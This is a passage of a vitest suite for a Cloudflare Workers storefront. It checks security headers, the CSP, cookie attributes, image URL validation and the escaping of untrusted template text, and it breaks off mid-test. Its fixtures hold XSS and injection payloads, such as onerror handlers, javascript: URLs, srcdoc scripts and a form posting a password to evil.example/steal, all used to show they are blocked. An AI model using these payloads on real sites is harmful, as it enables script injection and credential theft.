/// <reference types="vite/client" />
/**
 * What every page and response carries (one file, one workerd, for what used to be five small files): the security
 * headers and CSP, the per-isolate trust marker never on a page, images the CSP lets load, no fault injection in the
 * deployed worker, and untrusted text staying text in any template.
 */
import { env } from 'cloudflare:workers';
import { Hono } from 'hono';
import { describe, expect, it, beforeAll } from 'vitest';
import { DEMO_MERCHANTS, DEMO_SHOPPER, demoSite } from '../../src/site/seed/demo';
import { mapHost, publishSite, exportSite } from '../../src/site/published/store';
import { hashPassword } from '../../src/durable/passwords';
import { contentObject, contentObjects } from '../../src/durable/stubs';
import { cspHash, htmlCsp, NO_SOURCES } from '../../src/storefront/content-security';
import { PRODUCTION_VARS, Visitor } from '../worker/visitor';
import {
  keepTrustedBytes,
  keepTrustedPartsWith,
  keepTrustedText,
  keepTrustedTextWith,
  markTrusted,
  UNTRUSTED_ATTRIBUTES,
  untrustedAttributesIn,
} from '../../src/storefront/trusted-markup';
import { IMAGE_URL_MESSAGE } from '../../src/site/model/image-url';
import { ROLES } from '../../src/site/roles';
import { demoStoreOnHost } from '../worker/demo-on-host';
import { faultsActive } from '../../src/faults';
import { securityHeaders } from '../../src/routes/shared/security-headers';
import type { AppEnv } from '../../src/routes/shared/http';
import { inNextStockSlot } from '../worker/stock-slot';

describe('security headers and CSP', () => {
  function expectCommonHeaders(res: Response): void {
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
    expect(res.headers.get('permissions-policy')).toContain('camera=()');
  }

  describe('security headers', () => {
    it(
      'gives every page the same bytes and CSP from render and cache: no nonce, inline elements allowed by hash',
      async () =>
        // In one stock slot: a miss and hit that crossed a slot's end read the second through the app (clean68).
        inNextStockSlot(async () => {
          const visitor = new Visitor();
          const answers: { csp: string; html: string }[] = [];
          for (const cache of ['miss', 'hit']) {
            const res = await visitor.fetch('/shop/p/candle');
            expect(res.headers.get('x-page-cache')).toBe(cache);
            expectCommonHeaders(res);
            expect(res.headers.get('x-frame-options')).toBe('SAMEORIGIN');
            answers.push({ csp: res.headers.get('content-security-policy') ?? '', html: await res.text() });
          }
          const [miss, hit] = answers as [{ csp: string; html: string }, { csp: string; html: string }];
          expect(hit).toEqual(miss);
          expect(miss.csp).not.toMatch(/'nonce-|'strict-dynamic'/);
          expect(miss.csp).toContain("object-src 'none'");
          expect(miss.html).not.toMatch(/nonce=|data-trust/);
          const css = /<style>([\s\S]*?)<\/style>/.exec(miss.html)?.[1] ?? '';
          expect(css).toContain('.site-header');
          expect(miss.csp).toContain(`style-src 'self' ${await cspHash(css)};`);
          const scriptSources = (/script-src ([^;]*);/.exec(miss.csp)?.[1] ?? '').split(' ');
          expect(scriptSources[0]).toBe("'self'");
          // A form's post-submit script (the demo's /form-fields) is created by SiteForm from the site data on every page's behalf.
          expect(scriptSources).toContain(await cspHash('document.documentElement.dataset.postSubmit = "ran";'));
          // Every inline script of the page (the header's words) by its hash.
          const inline = [...miss.html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((match) => match[1] ?? '');
          expect(inline.length).toBeGreaterThan(0);
          for (const code of inline) expect(scriptSources).toContain(await cspHash(code));
          // A revalidated page keeps the CSP of the copy the browser has.
          const etag = (await visitor.fetch('/shop/p/candle')).headers.get('etag') ?? '';
          const notModified = await visitor.fetch('/shop/p/candle', { headers: { 'if-none-match': etag } });
          expect(notModified.status).toBe(304);
          expect(notModified.headers.get('content-security-policy')).toBeNull();
          expectCommonHeaders(notModified);
        }),
      30_000,
    );

    it('gives other HTML the strict default, allowing a hand-built page only its own stylesheet', async () => {
      const bad = await new Visitor().fetch('/?format=%3Cb%3E');
      expect(bad.status).toBe(400);
      expect(await bad.text()).toContain('<h1>Unknown format &#39;&lt;b&gt;&#39;</h1>');
      expect(bad.headers.get('content-security-policy')).toBe(htmlCsp(NO_SOURCES));
      // The console's page has no inline style or script at all: its stylesheet and script are files.
      const config = await new Visitor().fetch('/config');
      expect(await config.text()).not.toMatch(/<style|<script>/);
      expect(config.headers.get('content-security-policy')).toContain("style-src 'self';");
      expect(config.headers.get('content-security-policy')).toContain("script-src 'self';");
    }, 30_000);

    it("allows reCAPTCHA's script paths, never its hosts, only for exactly that provider", () => {
      expect(htmlCsp(NO_SOURCES, 'recaptcha-enterprise')).toContain(
        "script-src 'self' https://www.google.com/recaptcha/enterprise.js https://www.gstatic.com/recaptcha/releases/;",
      );
      for (const provider of ['local', 'Recaptcha-Enterprise', undefined])
        expect(htmlCsp(NO_SOURCES, provider)).not.toContain('google');
    });

    it('locks API answers down: no scripts, no framing, no sniffing, also for errors', async () => {
      for (const path of ['/api/commerce/shopping-cart', '/api/nope', '/api/commerce/inventory/stock/']) {
        const res = await new Visitor().fetch(path);
        expectCommonHeaders(res);
        expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'");
        expect(res.headers.get('x-frame-options')).toBe('DENY');
        await res.arrayBuffer();
      }
    });

    it("sets them on the app's own answer where it stands, and on a copy of an answer whose headers cannot change", async () => {
      const made: Response[] = [];
      const app = new Hono<AppEnv>();
      app.use('*', securityHeaders);
      app.get('/own', (c) => {
        made.push(c.html('<p>own</p>'));
        return made[0] as Response;
      });
      // A Cache API copy, as matched, has immutable headers (as has a fetched answer).
      app.get('/matched', async () => {
        const url = 'https://security-headers.internal/matched';
        await caches.default.put(url, new Response('{}', { headers: { 'cache-control': 'max-age=60' } }));
        const matched = (await caches.default.match(url)) as Response;
        expect(() => matched.headers.set('x-frame-options', 'DENY')).toThrow(TypeError);
        return matched;
      });
      const own = await app.request('/own');
      expect(own).toBe(made[0]);
      expect(own.headers.get('x-frame-options')).toBe('SAMEORIGIN');
      expect(own.headers.get('content-security-policy')).toBe(htmlCsp(NO_SOURCES));
      expectCommonHeaders(own);
      const matched = await app.request('/matched');
      expect([matched.status, await matched.text()]).toEqual([200, '{}']);
      expect(matched.headers.get('x-frame-options')).toBe('DENY');
      expect(matched.headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'");
      expectCommonHeaders(matched);
    });
  });

  describe('cookie audit', () => {
    const CANDLE = { itemId: 'p-candle', sku: 'SQ1021', quantity: 1 };
    const rules: [string, boolean, string][] = [
      ['crumb', false, 'Lax'],
      ['CART', true, 'Lax'],
      ['HasCart', false, 'Lax'],
      ['SiteUserInfo', false, 'Lax'],
      ['SiteUserSession', true, 'Lax'],
      ['MerchantSession', true, 'Strict'],
    ];

    /** Every cookie the worker sets on a visit: a page, the page script's crumb call, an add to cart, a visitor and a merchant sign-in. */
    async function cookiesOfAVisit(
      visitor: Visitor,
      shopper: { email: string; password: string },
      merchant: { email: string; password: string },
    ): Promise<Map<string, string>> {
      const cookies: string[] = [];
      const collect = async (res: Response) => {
        cookies.push(...res.headers.getAll('set-cookie'));
        await res.arrayBuffer();
      };
      await collect(await visitor.fetch('/contact'));
      await collect(await visitor.fetch('/api/crumb'));
      await collect(await visitor.send('POST', '/api/commerce/shopping-cart/entries', CANDLE));
      await collect(
        await visitor.send('POST', '/api/site-users/account/session', {
          email: shopper.email,
          password: shopper.password,
        }),
      );
      await collect(
        await visitor.send('POST', '/api/merchant/session', { email: merchant.email, password: merchant.password }),
      );
      return new Map(cookies.map((c) => [c.slice(0, c.indexOf('=')), c]));
    }

    it('in development sets every cookie under its plain name: HttpOnly unless the page script reads it, SameSite always, not Secure on http://localhost', {
      timeout: 60_000,
    }, async () => {
      const byName = await cookiesOfAVisit(new Visitor(), DEMO_SHOPPER, DEMO_MERCHANTS[0]);
      expect([...byName.keys()].sort()).toEqual(rules.map(([name]) => name).sort());
      for (const [name, httpOnly, sameSite] of rules) {
        const cookie = byName.get(name) ?? '';
        expect(cookie, name).toContain(`SameSite=${sameSite}`);
        expect(cookie, name).toContain('Path=/');
        expect(cookie.includes('HttpOnly'), name).toBe(httpOnly);
        expect(cookie, name).not.toContain('Secure');
      }
    });

    it('in production sets every cookie as __Host-: Secure, Path=/, no Domain, with the same HttpOnly and SameSite', {
      timeout: 60_000,
    }, async () => {
      const site = demoSite();
      site.website.id = 'secure-test';
      await publishSite(contentObjects(env), site);
      await mapHost(env.SITE_CONTENT, 'secure.test', 'secure-test');
      const shopper = { email: 'audit@example.com', password: 'audit-shopper-password' };
      const merchant = { email: 'audit-owner@example.com', password: 'audit-owner-password' };
      await env.SITE_USERS.get(env.SITE_USERS.idFromName('secure-test')).ensureUser(
        shopper.email,
        await hashPassword(shopper.password),
      );
      await env.MERCHANTS.get(env.MERCHANTS.idFromName('secure-test')).ensureMember(
        merchant.email,
        await hashPassword(merchant.password),
        [1],
      );
      const visitor = new Visitor('https://secure.test', {
        vars: PRODUCTION_VARS,
        headers: { 'cf-connecting-ip': '192.0.2.10' },
      });
      const byName = await cookiesOfAVisit(visitor, shopper, merchant);
      expect([...byName.keys()].sort()).toEqual(rules.map(([name]) => `__Host-${name}`).sort());
      for (const [name, httpOnly, sameSite] of rules) {
        const cookie = byName.get(`__Host-${name}`) ?? '';
        expect(cookie, name).toContain(`SameSite=${sameSite}`);
        expect(cookie, name).toContain('; Path=/;');
        expect(cookie, name).toContain('; Secure');
        expect(cookie, name).not.toMatch(/; Domain=/i);
        expect(cookie.includes('HttpOnly'), name).toBe(httpOnly);
      }
      const signedIn = await visitor.json<{ xsrfToken: string }>('GET', '/api/site-users/account/session');
      const signOut = await visitor.fetch('/api/site-users/account/session', {
        method: 'DELETE',
        headers: { 'x-csrf-token': visitor.crumb, 'x-siteuser-xsrf-token': signedIn.body.xsrfToken },
      });
      expect(signOut.status).toBe(200);
      const cleared = signOut.headers.getAll('set-cookie');
      for (const name of ['SiteUserSession', 'SiteUserInfo', 'CART', 'HasCart'])
        expect(cleared).toContain(`__Host-${name}=; Max-Age=0; Path=/; Secure`);
    });

    it('sets a cart cookie from before the flag (readable, no HasCart) again HttpOnly with its flag when the cart is loaded', async () => {
      const owner = new Visitor();
      await owner.open('/shop/p/candle');
      await (await owner.send('POST', '/api/commerce/shopping-cart/entries', CANDLE)).arrayBuffer();
      const cartId = owner.cookies.get('CART') ?? '';
      expect(cartId).toMatch(/^[0-9a-f]{32}$/);
      const load = (cookie: string) => new Visitor().fetch('/api/commerce/shopping-cart', { headers: { cookie } });

      const legacy = await load(`CART=${cartId}`);
      expect(((await legacy.json()) as { id: string }).id).toBe(cartId);
      const set = legacy.headers.getAll('set-cookie');
      expect(set.find((c) => c.startsWith(`CART=${cartId};`))).toMatch(/HttpOnly; SameSite=Lax$/);
      const flag = set.find((c) => c.startsWith('HasCart=1;')) ?? '';
      expect(flag).toContain('Max-Age=2592000');
      expect(flag).not.toContain('HttpOnly');

      const flagged = await load(`CART=${cartId}; HasCart=1`);
      expect(((await flagged.json()) as { id: string }).id).toBe(cartId);
      expect(flagged.headers.getAll('set-cookie').filter((c) => /^(CART|HasCart)=/.test(c))).toEqual([]);
    });
  });
});

/**
 * The trust marker is a per-isolate secret: no page may ever carry it. Trusted code (a theme, the
 * merchant's code injection) can hold `<script`/`<style` where they open no element: inside a
 * script's string, in `<noscript>` or `<textarea>` text, in an attribute value. Such a page must
 * still come out byte for byte as written, and the CSP must hash the inline text a browser sees.
 */
describe('trust-marker', () => {
  const WRITER = `document.write('<script src="https://cdn.example.com/a.js"><\\/script>');`;
  const HEADER_HTML =
    `<script>${WRITER}</script>` +
    '<noscript><style>.no-js{display:block}</style></noscript>' +
    '<textarea><script>shown as text</script></textarea>' +
    '<div title="<script>"></div>';
  const HEAD_SCRIPT = `window.loader = "<style>";`;

  async function hash(text: string): Promise<string> {
    const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)));
    return `'sha256-${btoa(String.fromCharCode(...digest))}'`;
  }

  describe('the trust marker never leaves the isolate', () => {
    it('serves trusted code holding <script or <style outside an element unchanged, marker-free, with the hash of what is served', async () => {
      const site = demoSite();
      site.website.id = 'marker-leak';
      site.header = { html: HEADER_HTML };
      const head = site.theme['head.html'] as string;
      site.theme = { ...site.theme, 'head.html': head.replace('</head>', `<script>${HEAD_SCRIPT}</script></head>`) };
      const published = await publishSite(contentObjects(env), site);
      if ('error' in published) throw new Error(published.error);
      await mapHost(env.SITE_CONTENT, 'marker-leak.test', 'marker-leak');

      for (const path of ['/', '/shop', '/?again']) {
        const res = await new Visitor('http://marker-leak.test').fetch(path);
        const csp = res.headers.get('content-security-policy') ?? '';
        const html = await res.text();
        expect(html, path).not.toContain('data-trust');
        expect(html, path).toContain(HEADER_HTML);
        expect(html, path).toContain(`<script>${HEAD_SCRIPT}</script>`);
        expect(csp, path).toContain(await hash(WRITER));
        expect(csp, path).toContain(await hash(HEAD_SCRIPT));
      }
    }, 60_000);

    it('takes the marker out of text and attribute values, and keeps only marked elements', async () => {
      const source = '<textarea><script>as text</script></textarea><p title="<style>">x</p><script>run()</script>';
      const { html, found } = await keepTrustedText(
        `${markTrusted(source)}<script>injected()</script><style>p{}</style>`,
      );
      expect(html).toBe(source);
      expect(found.scripts).toEqual(['run()']);
      expect(found.styles).toEqual([]);
    });
  });
});

/**
 * Images a store may name must also be what the page's CSP lets the browser load: a product image
 * on another https host (an imported store's images live on a CDN; the sanitizer keeps https images
 * in rich text for the same reason) is shown, not blocked by `img-src`.
 */
describe('images', () => {
  const CDN_IMAGE = 'https://images.cdn.example.com/mug.jpg';

  function directive(csp: string, name: string): string[] {
    return (
      csp
        .split(';')
        .map((part) => part.trim().split(/\s+/))
        .find(([first]) => first === name) ?? []
    ).slice(1);
  }

  /** Whether a CSP source list allows an absolute URL by scheme or by exact origin (the forms our policies use). */
  function allowsUrl(sources: readonly string[], url: string): boolean {
    const { protocol, origin } = new URL(url);
    return sources.some((source) => source === protocol || source === origin || source === '*');
  }

  describe('images on another host', () => {
    it('are allowed by the page CSP over https: a product image on a CDN', async () => {
      const site = demoSite();
      site.website.id = 'cdn-images';
      const mug = site.items.find((item) => item.urlId === 'ceramic-mug');
      if (mug === undefined) throw new Error('the demo has no ceramic mug');
      mug.assetUrl = CDN_IMAGE;
      const published = await publishSite(contentObjects(env), site);
      if ('error' in published) throw new Error(published.error);
      await mapHost(env.SITE_CONTENT, 'cdn-images.test', 'cdn-images');

      const res = await new Visitor('http://cdn-images.test').fetch('/shop');
      const html = await res.text();
      expect(html).toContain(`src="${CDN_IMAGE}"`);
      const imgSrc = directive(res.headers.get('content-security-policy') ?? '', 'img-src');
      expect(imgSrc, imgSrc.join(' ')).toContain("'self'");
      expect(allowsUrl(imgSrc, CDN_IMAGE), imgSrc.join(' ')).toBe(true);
      expect(allowsUrl(imgSrc, 'http://images.cdn.example.com/mug.jpg'), 'plain http stays blocked').toBe(false);
    }, 60_000);
  });

  describe("an image's address is checked where it is stored", () => {
    it('refuses a hostile assetUrl on PUT /api/merchant/items/{id} with a 400 naming the field, and saves nothing; the demo publishes', async () => {
      const store = await demoStoreOnHost('security', 'image-urls');
      const team = env.MERCHANTS.get(env.MERCHANTS.idFromName(store.websiteId));
      const account = { email: 'images-admin@example.com', password: 'images-admin-password' };
      await team.ensureMember(account.email, await hashPassword(account.password), [ROLES.admin]);
      const admin = await new Visitor(store.origin).open('/contact');
      expect((await admin.json('POST', '/api/merchant/session', account)).status).toBe(200);
      const items = (await exportSite(contentObject(env, store.websiteId)))?.items ?? [];
      const shirt = items.find((item) => item.urlId === 'linen-shirt')!;
      const post = items.find((item) => item.collectionId === 'c-blog')!;
      const variant = shirt.structuredContent!.variants[0]!;
      const hostile = [
        'x" style="position:fixed;inset:0" onmouseover="alert(1)',
        'javascript:alert(1)',
        '//evil.example/a.jpg',
      ];
      for (const url of hostile) {
        for (const [item, change, path] of [
          [post, { assetUrl: url }, 'assetUrl'],
          [shirt, { assetUrl: url }, 'assetUrl'],
          [shirt, { mainImage: { assetUrl: url } }, 'mainImage.assetUrl'],
          [
            shirt,
            { structuredContent: { ...shirt.structuredContent, variants: [{ ...variant, image: { assetUrl: url } }] } },
            'structuredContent.variants.0.image.assetUrl',
          ],
        ] as const) {
          const res = await admin.json('PUT', `/api/merchant/items/${item.id}`, { ...item, ...change });
          expect(res, `${path} ${url}`).toEqual({
            status: 400,
            body: { error: `Invalid site content: items.${item.id}.${path}: ${IMAGE_URL_MESSAGE}` },
          });
        }
      }
      const after = (await exportSite(contentObject(env, store.websiteId)))?.items ?? [];
      expect(after.find((item) => item.id === shirt.id)?.assetUrl).toBe(shirt.assetUrl);
      expect(after.find((item) => item.id === post.id)?.assetUrl).toBe(post.assetUrl);
      // A file from the file manager and an https image still save.
      expect(
        (
          await admin.json('PUT', `/api/merchant/items/${post.id}`, {
            ...post,
            assetUrl: "/files/0abc/1/Bob's-photo.jpg",
          })
        ).status,
      ).toBe(200);
      expect(
        (
          await admin.json('PUT', `/api/merchant/items/${shirt.id}`, {
            ...shirt,
            assetUrl: 'https://images.cdn.example.com/shirt.jpg?format=750w',
          })
        ).status,
      ).toBe(200);
    }, 60_000);
  });
});

/**
 * Fault injection never reaches production: the deployed worker (src/worker.ts, wrangler.toml's
 * `main`) has no control call, so a request that the soak benchmark's worker would take as "inject
 * these faults" is an ordinary unknown path, and nothing is injected.
 */
describe('fault-gate', () => {
  const FAULTS = JSON.stringify([
    { target: 'kv', mode: 'fail' },
    { target: 'durable-object', mode: 'fail' },
  ]);

  describe('fault injection in production', () => {
    it('has no control call: the soak worker’s /__soak/faults is not found and injects nothing', async () => {
      for (const visitor of [new Visitor(), new Visitor('http://localhost', { vars: PRODUCTION_VARS })]) {
        const put = await visitor.fetch('/__soak/faults', {
          method: 'PUT',
          headers: { 'content-type': 'application/json' },
          body: FAULTS,
        });
        expect(put.status).toBe(404);
        expect((await visitor.fetch('/__soak/faults')).status).toBe(404);
        expect(faultsActive()).toBe(false);
      }
    });
  });
});

/**
 * Untrusted text stays text in any template (issue 29): a developer-platform template prints
 * `{title}` as Squarespace's do, and merchant titles holding markup come out as text (the engine's
 * escaping mode, src/storefront/developer-platform/escaping.ts); whatever markup reaches a page
 * from anything but trusted code loses its frames, objects, embeds, meta, base, link and form
 * elements and its `srcdoc`/`on*` attributes (src/storefront/trusted-markup.ts); and the production
 * CSP allows reCAPTCHA's script paths, never its hosts, only on a page with a captcha, never on /config.
 */
describe('untrusted-text', () => {
  const FIXTURE = import.meta.glob('../fixtures/developer-platform/**/*', {
    query: '?raw',
    import: 'default',
    eager: true,
  }) as Record<string, string>;
  const PREFIX = '../fixtures/developer-platform/';

  /** Post titles a content editor could write, each trying to put an element or a handler on the page. */
  const HOSTILE_TITLES = [
    '<iframe srcdoc="<script src=/x.js></script>">',
    '<img src=x onerror="window.__pwned=1">',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="import" href="/x.html">',
    '<object data="/x.swf"></object>',
    '<embed src="/x.swf">',
  ];

  /** The template's own markup: trusted, so it stays. */
  const TEMPLATE_HEAD =
    '<meta name="viewport" content="width=device-width"><link rel="preconnect" href="https://fonts.example">';
  const DATA_BLOCK = '<script type="application/json" id="fixture-posts">{items|json}</script>';

  function fixtureTheme(): Record<string, string> {
    const files: Record<string, string> = Object.fromEntries(
      Object.entries(FIXTURE).map(([path, text]) => [path.slice(PREFIX.length), text]),
    );
    files['styles/compiled.css'] = '.fixture-main{max-width:60rem}';
    files['header.region'] = (files['header.region'] as string).replace(
      '{squarespace-headers}',
      `{squarespace-headers}${TEMPLATE_HEAD}`,
    );
    files['collections/blog.list'] = `${files['collections/blog.list'] as string}\n${DATA_BLOCK}`;
    files['collections/blog.item'] =
      `${files['collections/blog.item'] as string}\n<p class="fixture-age">{item.addedOn|timesince}</p><p class="fixture-json">{item.title|json}</p>`;
    return files;
  }

  /** Every element and attribute of a page, as a browser would build them. */
  async function elementsOf(html: string): Promise<{ tag: string; attributes: [string, string][] }[]> {
    const found: { tag: string; attributes: [string, string][] }[] = [];
    await new HTMLRewriter()
      .on('*', {
        element: (element) =>
          void found.push({ tag: element.tagName, attributes: [...element.attributes] as [string, string][] }),
      })
      .transform(new Response(html))
      .text();
    return found;
  }

  /** Nothing on the page that a hostile title could have added. */
  async function expectNoInjectedElements(html: string, where: string): Promise<void> {
    const elements = await elementsOf(html);
    const attribute = (e: { attributes: [string, string][] }, name: string) =>
      e.attributes.find(([n]) => n === name)?.[1];
    expect(
      elements.filter((e) => ['iframe', 'object', 'embed', 'frame', 'base'].includes(e.tag)).map((e) => e.tag),
      where,
    ).toEqual([]);
    expect(
      elements.filter((e) => e.tag === 'meta' && attribute(e, 'http-equiv') !== undefined),
      where,
    ).toEqual([]);
    expect(
      elements.filter((e) => e.tag === 'link' && attribute(e, 'rel') === 'import'),
      where,
    ).toEqual([]);
    expect(
      elements.filter((e) => e.tag === 'form' && (attribute(e, 'action') ?? '').includes('evil')),
      where,
    ).toEqual([]);
    expect(
      elements
        .flatMap((e) => e.attributes.map(([name]) => name))
        .filter((name) => name === 'srcdoc' || name.startsWith('on')),
      where,
    ).toEqual([]);
    expect(
      elements.filter((e) => e.tag === 'img' && attribute(e, 'src') === 'x'),
      where,
    ).toEqual([]);
  }

  const HOST = 'hostile-titles.template.test';
  const demo = demoSite();
  const posts = demo.items.filter((item) => item.collectionId === 'c-blog');

  describe('a developer-platform template printing merchant titles', () => {
    beforeAll(async () => {
      const site = demoSite();
      site.website.id = 'hostile-titles';
      site.theme = fixtureTheme();
      const blog = site.items.filter((item) => item.collectionId === 'c-blog');
      blog.forEach((post, i) => {
        post.title = HOSTILE_TITLES[i % HOSTILE_TITLES.length] as string;
      });
      expect(await publishSite(contentObjects(env), site)).toHaveProperty('version');
      await mapHost(env.SITE_CONTENT, HOST, site.website.id);
    });

    it("prints each hostile title as text on the post page, in its neighbours' links and on the list: no element, no handler", async () => {
      expect(posts.length).toBeGreaterThanOrEqual(HOSTILE_TITLES.length);
      for (const [i, title] of HOSTILE_TITLES.entries()) {
        const post = posts[i];
        const res = await new Visitor(`http://${HOST}`).fetch(post?.fullUrl ?? '');
        expect(res.status).toBe(200);
        const html = await res.text();
        await expectNoInjectedElements(html, title);
        // As text: every character of the title escaped, so the browser shows what the merchant typed.
        const shown = title.replace(/[&<>"']/g, (ch) => `&#${ch.charCodeAt(0)};`);
        expect(html, title).toContain(`<h1>${shown}</h1>`);
        // Rich text (sanitized on the way in) still prints as markup: `{body}` keeps its paragraphs.
        expect(html).toMatch(/<article class="fixture-post"><h1>[^<]*<\/h1><p>/);
      }
      const list = await (await new Visitor(`http://${HOST}`).fetch('/blog')).text();
      await expectNoInjectedElements(list, '/blog');
      expect(list).toContain('&#60;iframe srcdoc=&#34;&#60;script src=/x.js&#62;&#60;/script&#62;&#34;&#62;');
    });

    it('prints the markup of widget formatters as it is: a product price, the age of a post', async () => {
      const product = await (await new Visitor(`http://${HOST}`).fetch('/shop/p/canvas-tote')).text();
      expect(product).toMatch(/<span class="fixture-price">\s*<div class="product-price">/);
      expect(product).not.toContain('&#60;span');
      const post = await (await new Visitor(`http://${HOST}`).fetch(posts[0]?.fullUrl ?? '')).text();
      expect(post).toMatch(/<p class="fixture-age"><span class="timesince" data-date="\d+">[^<]+<\/span><\/p>/);
      // JSON printed anywhere holds no markup: `<` and the like are \u escapes inside its strings.
      const json = /<p class="fixture-json">([^<]*)<\/p>/.exec(post)?.[1] ?? '';
      expect(JSON.parse(json)).toBe(HOSTILE_TITLES[0]);
    });

    it("keeps the template's own meta, link and JSON data block, whose titles cannot close the script or be markup", async () => {
      const html = await (await new Visitor(`http://${HOST}`).fetch('/blog')).text();
      expect(html).toContain(TEMPLATE_HEAD);
      expect(html).not.toContain('data-trust');
      const data = /<script type="application\/json" id="fixture-posts">([\s\S]*?)<\/script>/.exec(html)?.[1] ?? '';
      expect(data).not.toContain('<');
      const titles = (JSON.parse(data) as { title: string }[]).map((item) => item.title);
      expect(titles).toContain(HOSTILE_TITLES[0]);
    });
  });

  describe('the filter for untrusted markup', () => {
    it('removes guarded elements and srcdoc/on* attributes from anything not trusted, and keeps trusted code as written', async () => {
      const trusted =
        '<form action="/search"><input name="q"></form><meta name="viewport" content="x"><link rel="stylesheet" href="/a.css"><iframe src="/map"></iframe>';
      const untrusted =
        '<p onclick="x()" onMouseOver="y()">p</p><iframe srcdoc="<script>z()</script>"></iframe><object data="/o"><b>fallback</b></object><embed src="/e">' +
        '<frame src="/f"><meta http-equiv="refresh" content="0"><base href="https://evil.example/"><link rel="import" href="/i">' +
        '<form action="https://evil.example/"><input name="pw"></form><a href="/x" srcdoc="s">a</a>';
      const { html } = await keepTrustedText(markTrusted(trusted) + untrusted);
      expect(html).toBe(`${trusted}<p>p</p><b>fallback</b><input name="pw"><a href="/x">a</a>`);
    });

    /** Every attribute name of every element of `html`, as the rewriter parses it. */
    async function attributeNames(html: string): Promise<Set<string>> {
      const names = new Set<string>();
      const collect = new HTMLRewriter().on('*', {
        element(element) {
          for (const [name] of element.attributes) names.add(name.toLowerCase());
        },
      });
      await collect.transform(new Response(html)).text();
      return names;
    }

    it('removes every handler and srcdoc however the name is written and whatever comes before it', async () => {
      // The filter selects only the names the markup holds (untrustedAttributesIn): each must still be found after a
      // space, a slash, a quote or a newline, in any case, with or without a value.
      const spelled = (name: string, i: number) =>
        [name, name.toUpperCase(), name[0]?.toUpperCase() + name.slice(1)][i % 3] as string;
      const untrusted = UNTRUSTED_ATTRIBUTES.map(
        (name, i) =>
          `<p ${spelled(name, i)}="x()">a</p><img src="/i.png"${spelled(name, i + 1)}=y()><img/${name}><b\n${spelled(name, i + 2)} class=c>b</b><i id=z ${name}>c</i>`,
      ).join('');
      const { html } = await keepTrustedText(`${markTrusted('<form action="/s">')}${untrusted}</form>`);
      const left = await attributeNames(html);
      for (const name of UNTRUSTED_ATTRIBUTES) expect(left.has(name), name).toBe(false);
      expect([...left].sort()).toEqual(['action', 'class', 'id', 'src']);
      expect(html.match(/<img src="\/i.png">/g)?.length).toBe(UNTRUSTED_ATTRIBUTES.length);
      expect(untrustedAttributesIn('<p>Shop online, on sale once a month</p>')).toEqual([]);
      // A handler's name inside a word opens no attribute (`<p xonload>` is an attribute `xonload`).
      expect(untrustedAttributesIn('<p xonload class="ponerror">Leonchange</p>')).toEqual([]);
      expect(untrustedAttributesIn('<p title="a"ONERROR=1 x/onLoad>').sort()).toEqual(['onerror', 'onload']);
    });

    it('filters a page whose stylesheet is kept out of the filter exactly as the whole page', async () => {
      const untrusted = '<img src=x onerror=alert(1)><script>injected()</script><style>p{}</style>';
      const head = (css: string) =>
        `${markTrusted(`<meta charset="utf-8"><style>${css}</style><script>run()</script>`)}${untrusted}`;
      const cases: [string, (css: string) => string][] = [
        ['body{color:red}.a>b{content:"<script>"}', head],
        // A stylesheet that could close its element, and ones whose text the filter changes, go through it whole.
        ['p{}</style><script>x()</script><style>', head],
        ['p{}</STYLE ><img src=x onerror=y()>', head],
        ['p{}', (css) => `${head(css)}<p title="${css}">${css}</p>`],
        ['p{}', (css) => `${markTrusted('<style>')}${css}</style>${css}`],
        ['p{}', (css) => `${markTrusted(`<style>${css}</style><style>`)}${css}</style>`],
        ['p{}', (css) => `<style>${css}</style>`],
        // A marker trusted code leaves as text (a script's string): taken out of the text, not only off elements.
        ['p{}', (css) => markTrusted(`<style>${css}</style><script>const tag = "<script>";</script><p title="<form">`)],
      ];
      for (const [css, render] of cases) {
        const whole = await keepTrustedText(render(css));
        expect(await keepTrustedTextWith(css, render), `${css} ${render('CSS')}`).toEqual(whole);
        // The same as bytes (a store page's head and body: the rewriter's own output when no marker is left as text).
        const head = await keepTrustedPartsWith(css, render);
        expect({ html: await new Blob([...head.parts]).text(), found: head.found }, render('CSS')).toEqual(whole);
        const body = await keepTrustedBytes(render(css));
        expect({ html: new TextDecoder().decode(body.bytes), found: body.found }, render('CSS')).toEqual(whole);
      }
      expect((await keepTrustedText(cases.at(-1)?.[1]('p{}') ?? '')).html).not.toContain('data-trust');
      const { html, found } = await keepTrustedTextWith('body{color:red}', head);
      expect(html).toBe('<meta charset="utf-8"><style>body{color:red}</style><script>run()</script><img src=x>');
      expect(found).toEqual({ scripts: ['run()'], styles: ['body{color:red}'], scriptSrcs: [] });
    });

    it("keeps our own theme's forms, meta and link elements and the islands' forms", async () => {
      await publishSite(contentObjects(env), demo);
      const html = await (await new Visitor().fetch('/contact')).text();
      expect(html).toContain('<meta name="viewport"');
      expect(html).toContain('<link rel="icon"');
      expect(html).toMatch(/<meta property="og:title"/);
      expect(html).toContain('<form class="site-search"');
      // SiteForm's server render: the contact form and the newsletter sign-up.
      expect(html.match(/<form /g)?.length).toBeGreaterThanOrEqual(3);
      expect(html).not.toContain('data-trust');
    });
  });

  describe('the production CSP and the captcha', () => {
    const PROD_HOST = 'captcha-csp.prod.test';
    let address = 0;
    const visitor = () =>
      new Visitor(`https://${PROD_HOST}`, {
        vars: PRODUCTION_VARS,
        headers: { 'cf-connecting-ip': `203.0.113.${++address}` },
      });
    const GOOGLE = /https:\/\/www\.(google|gstatic)\.com(?=[\s;]|$)/;

    const TEMPLATE_HOST = 'captcha-csp-template.prod.test';
    const templateVisitor = () =>
      new Visitor(`https://${TEMPLATE_HOST}`, {
        vars: PRODUCTION_VARS,
        headers: { 'cf-connecting-ip': `203.0.113.${++address}` },
      });

    beforeAll(async () => {
      const site = demoSite();
      site.website.id = 'captcha-csp';
      await publishSite(contentObjects(env), site);
      await mapHost(env.SITE_CONTENT, PROD_HOST, site.website.id);
      const template = demoSite();
      template.website.id = 'captcha-csp-template';
      template.theme = fixtureTheme();
      await publishSite(contentObjects(env), template);
      await mapHost(env.SITE_CONTENT, TEMPLATE_HOST, template.website.id);
    });

    it('decides the same under an imported template: the contact page has the captcha paths, the blog none', async () => {
